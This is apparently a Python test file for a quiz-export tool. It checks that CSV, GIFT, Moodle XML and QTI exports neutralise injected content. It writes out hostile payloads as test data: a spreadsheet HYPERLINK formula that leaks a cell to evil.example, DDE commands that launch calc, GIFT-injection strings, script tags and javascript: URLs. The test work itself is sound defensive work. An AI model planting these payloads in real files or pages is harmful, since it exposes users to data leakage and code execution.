"""Quiz exports made from a hostile repository cannot attack the tool they are opened in
(SPEC §3 and §5): no CSV cell is a formula, the XML is always well-formed, no field
starts a new GIFT question. Every export is read back by an independent reader (csv,
lxml, zipfile, tests/quiz/gift_parser.py) and compared with the payloads written into
the repository, and ordinary Bengali text comes back intact, character for character."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import unicodedata
import zipfile
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from labelbook.cli import main
from labelbook.quiz import export
from labelbook.quiz.export_csv import neutralise
from lxml import etree

from tests.quiz import gift_parser, sample

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
FULLWIDTH = '＝HYPERLINK("http://evil.example/")'
GIFT_BREAKER = "Fine title\n\n::INJECTED::[html]pwned{=yes ~no}\n// a comment\n$CATEGORY: evil"
BN_CONTENT = "একটি মন্তব্যে একটি ধর্মীয় গোষ্ঠীকে গালি দেওয়া হয়েছে; য়, ড়, ঢ়, ক্ষ, জ্ঞ, র‍্যাব, ১২৩।"
#: A formula, after optional white space, at the start of a cell, as a spreadsheet reads it.
FORMULA = re.compile(r"^\s*[=+\-@＝＋－＠]")
#: Characters XML 1.0 forbids; none may reach an XML export.
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
CONTROLS = "a\x00b\x01c\x08d\x0be\x0cf\x1fg\ufffeh\uffffi\ud800j-\x01-"


def nfc(s: str) -> str:
    return unicodedata.normalize("NFC", s)


def hostile_files() -> dict[str, str]:
    rules, examples = copy.deepcopy(sample.RULES), copy.deepcopy(sample.EXAMPLES)
    rules["HS-001"]["fm"]["title"] = HYPERLINK
    rules["HS-001"]["bn_title"] = f"{AT} {BN_CONTENT}"
    rules["HS-002"]["fm"]["title"] = GIFT_BREAKER
    rules["HS-002"]["bn_title"] = "বিদ্বেষ\n\n::BN-INJECTED::{=হ্যাঁ ~না}"
    e02 = examples["HS-001"][1]
    e02["content"] = f"{DDE} <script>alert(1)</script>"
    e02["rationale"] = f"-2+3 {GIFT_BREAKER}"
    e02["bn"] = (f"{FULLWIDTH} {BN_CONTENT}", f"@{BN_CONTENT}")
    examples["BU-001"][1]["content"] = "- a list item that only looks like a formula"
    examples["SH-001"][1]["content"] = "%100% sure\n\n// not a comment\n::X::{=y}"
    files = sample.files(rules, examples)
    policy = yaml.safe_load(files["guidelines/policy.yaml"])
    policy["title"] = "Short-video guidelines\n\n::HEADER-INJECTED::{=a ~b}"
    titles = {"remove": "%100%Remove", "age-restrict": "[plain]Age-restrict", "warning-screen": "=1+1 Warning screen", "allow": "@Allow"}
    for d in policy["decisions"]:
        d["title"] = titles[d["id"]]
    files["guidelines/policy.yaml"] = yaml.safe_dump(policy, allow_unicode=True, sort_keys=False)
    bn = yaml.safe_load(files["guidelines/policy.bn.yaml"])
    bn["title"] = "শর্ট-ভিডিও নির্দেশিকা\n\n::BN-HEADER::{=ক ~খ}"
    bn["decisions"]["remove"]["title"] = "-সরিয়ে দিন"
    files["guidelines/policy.bn.yaml"] = yaml.safe_dump(bn, allow_unicode=True, sort_keys=False)
    return files


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write(tmp_path_factory.mktemp("hostile") / "repo", hostile_files())


def run_quiz(repo: Path, out: Path, *options: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["quiz", "-C", str(repo), "--count", str(len(sample.QUIZZABLE)), *options, "-o", str(out)])
    return code, capsys.readouterr().err


def quiz_bytes(repo: Path, tmp_path: Path, fmt: str, lang: str, capsys: pytest.CaptureFixture[str]) -> bytes:
    out = tmp_path / f"quiz-{lang}.{fmt}"
    code, err = run_quiz(repo, out, "--lang", lang, "--format", fmt, capsys=capsys)
    assert code == 0, err
    return out.read_bytes()


def canonical(repo: Path, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]) -> dict:
    return json.loads(quiz_bytes(repo, tmp_path, "json", lang, capsys))


@pytest.mark.parametrize("lang", ["en", "bn"])
def test_no_csv_cell_is_a_formula(repo: Path, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]) -> None:
    items = {i["id"]: i for i in canonical(repo, tmp_path, lang, capsys)["items"]}
    rows = list(csv.DictReader(io.StringIO(quiz_bytes(repo, tmp_path, "csv", lang, capsys).decode("utf-8-sig"), newline="")))
    assert sorted(r["id"] for r in rows) == sample.QUIZZABLE
    for row in rows:
        for column, cell in row.items():
            assert not FORMULA.match(cell), (column, cell)
            # A cell is quoted when, and only when, the text it holds would be a formula.
            assert cell.startswith("'") == bool(FORMULA.match(cell[1:])), (column, cell)
        item = items[row["id"]]
        assert row["question"] == neutralise(item["question"]) and row["rationale"] == neutralise(item["feedback"]["rationale"])
        texts = [row[f"option_{n}_text"] for n in range(1, 5)]
        assert texts == [neutralise(o["text"]) for o in item["options"]]
    by_id = {r["id"]: r for r in rows}
    if lang == "en":
        assert by_id["HS-001-E02"]["question"] == f"'{DDE} <script>alert(1)</script>"
        assert by_id["HS-001-E02"]["rule_title"] == f"'{HYPERLINK}"
        assert by_id["HS-001-E02"]["rationale"].startswith("'-2+3 Fine title")
        assert by_id["BU-001-E02"]["question"] == "'- a list item that only looks like a formula"  # quoted too: see export_csv
        assert by_id["HS-001-E02"]["option_3_text"] == "'=1+1 Warning screen" and by_id["HS-001-E02"]["option_4_text"] == "'@Allow"
    else:
        # Every character of the Bengali comes back, behind the quote that keeps it text.
        assert by_id["HS-001-E02"]["question"] == "'" + nfc(f"{FULLWIDTH} {BN_CONTENT}")
        assert by_id["HS-001-E02"]["rationale"] == "'" + nfc(f"@{BN_CONTENT}")
        assert by_id["HS-001-E02"]["rule_title"] == "'" + nfc(f"{AT} {BN_CONTENT}")
        assert by_id["HS-001-E02"]["option_1_text"] == "'-সরিয়ে দিন"
        assert by_id["HS-001-E01"]["question"].endswith(sample.example("HS-001-E01")["bn"][0])


@pytest.mark.parametrize(("cell", "shown"), [
    ("  =1+1", "'  =1+1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\n@x", "'\n@x"), ("\tplain", "'\tplain"),
    ("\u3000＠SUM(A1)", "'\u3000＠SUM(A1)"), ("＋1", "'＋1"), ("－1", "'－1"), ("-", "'-"),
    ("a\x00b", "a\ufffdb"), ("Score: 10/10 = perfect", "Score: 10/10 = perfect"), ("সরিয়ে দিন", "সরিয়ে দিন"), ("", ""),
])
def test_csv_neutralises_what_owasp_lists(cell: str, shown: str) -> None:
    assert neutralise(cell) == shown


@pytest.mark.parametrize("lang", ["en", "bn"])
def test_no_gift_field_starts_a_question(repo: Path, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]) -> None:
    items = canonical(repo, tmp_path, lang, capsys)["items"]
    text = quiz_bytes(repo, tmp_path, "gift", lang, capsys).decode("utf-8")
    lines = text.split("\n")
    # Two header comments, then only the lines the exporter writes itself.
    assert [n for n, line in enumerate(lines) if line.lstrip().startswith("//")] == [0, 1]
    assert all(re.match(r"(::[A-Z]|\t[=~](?!\s*[%\[])|\t####\[html\]|\}$|$)", line) for line in lines[2:]), lines
    questions = gift_parser.parse(text)
    assert [q.name for q in questions] == [i["id"] for i in items]
    for q, item in zip(questions, items):
        assert [unescape(a.text) for a in q.answers] == [o["text"].strip() for o in item["options"]]
        assert [a.correct for a in q.answers] == [o["id"] == item["key"] for o in item["options"]]
        assert q.format == "html" and item["question"] in gift_parser.html_text(q.text)
    feedback = gift_parser.html_text(next(q for q in questions if q.name == "HS-002-E01").general_feedback)
    title = GIFT_BREAKER if lang == "en" else "বিদ্বেষ\n\n::BN-INJECTED::{=হ্যাঁ ~না}"
    assert title in feedback  # the whole title, line breaks and all, inside its own field


def assert_inert(tag: str, attrs: dict[str, str]) -> None:
    assert tag not in ("script", "iframe", "object", "embed", "style", "form"), tag
    assert not [a for a in attrs if a.lower().startswith("on")], (tag, attrs)
    assert not attrs.get("href", "").strip().lower().startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)


class Html(HTMLParser):
    """Moodle XML holds its HTML as text: parsed the way a browser would meet it."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert_inert(tag, {k: v or "" for k, v in attrs})


@pytest.mark.parametrize("lang", ["en", "bn"])
def test_xml_exports_are_well_formed_and_inert(repo: Path, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]) -> None:
    documents = {"moodle.xml": quiz_bytes(repo, tmp_path, "moodle-xml", lang, capsys)}
    package = zipfile.ZipFile(io.BytesIO(quiz_bytes(repo, tmp_path, "qti", lang, capsys)))
    documents.update({name: package.read(name) for name in package.namelist()})
    assert len(documents) == 1 + 2 + len(sample.QUIZZABLE)
    text = ""
    for data in documents.values():
        root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
        for el in root.iter(etree.Element):
            assert_inert(etree.QName(el).localname, {etree.QName(a).localname: v for a, v in el.attrib.items()})
        for html_text in root.iter("text"):
            Html().feed(html_text.text or "")
        text += "".join(root.itertext())
    shown = "<script>alert(1)</script>" if lang == "en" else nfc(BN_CONTENT)
    assert shown in unescape(text)  # as text, every character intact


def hostile_quiz(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict:
    """The canonical quiz with control characters and lone surrogates in every text: what an
    exporter must survive whatever the loader lets through."""
    data = canonical(repo, tmp_path, "en", capsys)
    data["guideline"]["title"] += CONTROLS
    data["guideline"]["version"] += CONTROLS
    for d in data["decisions"]:
        d["title"] += CONTROLS
    for item in data["items"]:
        item["question"] += CONTROLS
        item["version"] += CONTROLS
        for o in item["options"]:
            o["text"] = CONTROLS + o["text"]
        for key in ("rationale", "rule_title", "rule_url"):
            item["feedback"][key] += CONTROLS
    return data


def test_control_characters_never_reach_an_export(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = hostile_quiz(repo, tmp_path, capsys)
    shown = NOT_XML.sub("\ufffd", CONTROLS)  # replaced one for one, so that no `--` forms in a comment
    moodle = export(data, "moodle-xml")
    package = zipfile.ZipFile(io.BytesIO(export(data, "qti")))
    documents = {"moodle": moodle, **{n: package.read(n) for n in package.namelist()}}
    for name, raw in documents.items():
        root = etree.fromstring(raw)  # lxml refuses any character XML 1.0 forbids
        assert not NOT_XML.search(raw.decode("utf-8")), name
        if name not in ("imsmanifest.xml", "test.xml"):  # identifiers and paths only; the title is checked below
            assert shown in unescape("".join(root.itertext())), name
    assert etree.fromstring(documents["test.xml"]).get("title").endswith(shown)
    gift = export(data, "gift").decode("utf-8")
    assert not NOT_XML.search(gift) and len(gift_parser.parse(gift)) == len(data["items"])
    rows = list(csv.reader(io.StringIO(export(data, "csv").decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(data["items"]) and not any(NOT_XML.search(c) for r in rows for c in r)
    assert json.loads(export(data, "json"))["guideline"]["title"].endswith(CONTROLS.replace("\ud800", "\ufffd"))


def test_control_characters_in_the_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = hostile_files()
    # A YAML escape is all it takes to put a control character into a title.
    files["guidelines/policy.yaml"] = files["guidelines/policy.yaml"].replace(
        "title: '@Allow'", 'title: "@Allow\\x01\\x0b\\x1f\\uffff"', 1)
    assert "\\x01" in files["guidelines/policy.yaml"]
    repo = write(tmp_path / "repo", files)
    for fmt in ("moodle-xml", "qti"):
        out = tmp_path / f"quiz.{fmt}"
        code, err = run_quiz(repo, out, "--format", fmt, capsys=capsys)
        assert "Traceback" not in err and "internal error" not in err
        if code == 1:  # refusing the repository is as good, if the problem is located
            assert re.search(r"^guidelines/policy\.yaml:\d+:\d+: error\[[a-z-]+\]: ", err, re.MULTILINE) and not out.exists()
            continue
        assert code == 0, err
        raws = [out.read_bytes()] if fmt == "moodle-xml" else [zipfile.ZipFile(out).read(n) for n in zipfile.ZipFile(out).namelist()]
        texts = ["".join(etree.fromstring(raw).itertext()) for raw in raws]
        assert any("@Allow\ufffd\ufffd\ufffd\ufffd" in unescape(t) for t in texts)


@pytest.mark.parametrize("url", ["javascript:alert(1)//", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "java\tscript:alert(1)", "https://guides.example.org/a b", "guides.example.org/1.0"])
def test_site_url_must_be_an_http_url(repo: Path, tmp_path: Path, url: str, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "quiz.gift"
    code, err = run_quiz(repo, out, "--format", "gift", "--site-url", url, capsys=capsys)
    assert code == 2 and not out.exists()
    assert f"labelbook: error: --site-url {url!r}: not an http(s) URL; give the published site's address" in err
